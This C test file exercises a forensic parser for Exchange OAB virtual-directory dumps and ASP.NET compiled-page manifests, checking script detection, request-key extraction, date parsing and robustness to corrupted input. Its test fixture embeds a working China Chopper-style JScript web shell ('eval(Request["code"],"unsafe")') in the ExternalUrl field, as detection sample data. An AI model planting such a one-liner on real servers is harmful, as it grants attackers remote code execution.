#include "format/vdir_dump.h"

#include "format/aspnet_compiled.h"
#include "t.h"

#define DUMP(changed, created)                                                         \
    "\r\n\r\nName                            : OAB (Default Web Site)\r\n"             \
    "PollInterval                    : 480\r\n"                                        \
    "OfflineAddressBooks             : {}\r\n"                                         \
    "MetabasePath                    : IIS://mxs01.example.local/W3SVC/1/ROOT/OAB\r\n" \
    "AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n"                \
    "Server                          : MXS01\r\n"                                      \
    "InternalUrl                     : https://mxs01.example.local/OAB\r\n"            \
    "ExternalUrl                     : http://ffff/#<script language=\"JScript\" "     \
    "runat=\"server\"> function Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}"  \
    "</script>\r\n"                                                                    \
    "ObjectClass                     : top\r\n"                                        \
    "                                  msExchVirtualDirectory\r\n"                     \
    "                                  msExchOABVirtualDirectory\r\n"                  \
    "WhenChangedUTC                  : " changed "\r\n"                                \
    "WhenCreatedUTC                  : " created "\r\n"                                \
    "IsValid                         : True\r\n"

static void tells_the_story(void)
{
    struct arena *a = arena_new();
    struct vdir_dump d;
    struct str text = STR(DUMP("3/14/2021 6:40:12 AM", "9/1/2018 1:00:00 PM"));
    T_OK(vdir_dump_is(text));
    T_OK(vdir_dump_parse(text, a, &d));
    T_STR(vdir_dump_get(&d, "Name"), "OAB (Default Web Site)");
    T_STR(vdir_dump_get(&d, "server"), "MXS01");
    T_STR(vdir_dump_get(&d, "ObjectClass"),
          "top, msExchVirtualDirectory, msExchOABVirtualDirectory");
    T_STR(vdir_dump_get(&d, "Nothing"), "");
    T_OK(vdir_dump_has_script(&d));
    T_STR(script_request_key(text), "code");
    arena_free(a);
}

static struct str changed(struct str text, char out[INSTANT_TEXT])
{
    struct arena *a = arena_new();
    struct vdir_dump d;
    T_OK(vdir_dump_parse(text, a, &d));
    struct str s = instant_text(vdir_dump_changed(&d), out);
    arena_free(a);
    return s;
}

static void reads_dates_only_where_their_order_is_certain(void)
{
    char t[INSTANT_TEXT];
    T_STR(changed(STR(DUMP("3/14/2021 6:40:12 AM", "1/2/2018 1:00:00 PM")), t),
          "2021-03-14T06:40:12Z");
    T_STR(changed(STR(DUMP("14.03.2021 18:40:12", "1.2.2018 1:00:00")), t),
          "2021-03-14T18:40:12Z");
    T_STR(changed(STR(DUMP("2021/3/4 06:40:12", "1/2/2018 1:00:00")), t),
          "2021-03-04T06:40:12Z");
    T_STR(changed(STR(DUMP("3/3/2021 12:40:12 AM", "1/2/2018 1:00:00")), t),
          "2021-03-03T00:40:12Z");
    /* the date of creation tells the order for the date of change */
    T_STR(changed(STR(DUMP("3/4/2021 6:40:12 PM", "9/17/2018 1:00:00 PM")), t),
          "2021-03-04T18:40:12Z");
    T_STR(changed(STR(DUMP("3/4/2021 6:40:12 PM", "5/6/2018 1:00:00 PM")), t), "");
    T_STR(changed(STR(DUMP("3/14/2021 6:40:12 PM", "17/9/2018 1:00:00 PM")), t), "");
    T_STR(changed(STR(DUMP("", "")), t), "");
}

static void finds_the_key_of_any_script(void)
{
    T_STR(script_request_key(STR("eval(Request.Item[\"klk123456\"],\"unsafe\")")), "klk123456");
    T_STR(script_request_key(STR("Request.Form ( 'p' )")), "p");
    T_STR(script_request_key(STR("Requests and Request.Url and REQUEST[ \"Z\" ]")), "Z");
    T_STR(script_request_key(STR("Request[\"unclosed")), "");
    T_STR(script_request_key(STR("Request")), "");
    T_STR(script_request_key(STR("Request[")), "");
}

static void reads_compiled_pages(void)
{
    struct arena *a = arena_new();
    struct aspnet_compiled c;
    T_OK(aspnet_compiled_parse(
        STR("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<preserve resultType=\"3\" "
            "virtualPath=\"/owa/auth/a&amp;b.aspx\" hash=\"1a\" assembly=\"App_Web_llfrjg0v\" "
            "type=\"ASP.auth_x_aspx\">\r\n<filedeps>"),
        a, &c));
    T_STR(c.virtual_path, "/owa/auth/a&b.aspx");
    T_STR(c.assembly, "App_Web_llfrjg0v");
    T_STR(c.type, "ASP.auth_x_aspx");
    T_OK(!aspnet_compiled_parse(STR("<preserve hash=\"virtualPath=\">"), a, &c));
    T_OK(!aspnet_compiled_parse(STR("<other virtualPath=\"/x\">"), a, &c));
    arena_free(a);
}

static void walk(struct bytes data)
{
    struct arena *a = arena_new();
    struct str text = {(const char *)data.p, data.n};
    struct vdir_dump d;
    struct aspnet_compiled c;
    if (vdir_dump_parse(text, a, &d)) {
        (void)vdir_dump_changed(&d);
        (void)vdir_dump_has_script(&d);
    }
    (void)vdir_dump_is(text);
    T_OK(script_request_key(text).n <= data.n);
    (void)aspnet_compiled_parse(text, a, &c);
    arena_free(a);
}

static void survives_truncation_and_flips(void)
{
    char text[] = DUMP("3/14/2021 6:40:12 AM", "9/1/2018 1:00:00 PM") "<preserve a='b' "
                                                                      "virtualPath = '/x&lt;'>";
    struct bytes b = {(const uint8_t *)text, sizeof text - 1};
    t_each_prefix(b, walk);
    for (size_t i = 0; i < b.n; i++) {
        text[i] ^= 0x10;
        walk(b);
        text[i] ^= 0x10;
    }
}

int main(void)
{
    T_RUN(tells_the_story);
    T_RUN(reads_dates_only_where_their_order_is_certain);
    T_RUN(finds_the_key_of_any_script);
    T_RUN(reads_compiled_pages);
    T_RUN(survives_truncation_and_flips);
    return t_done();
}
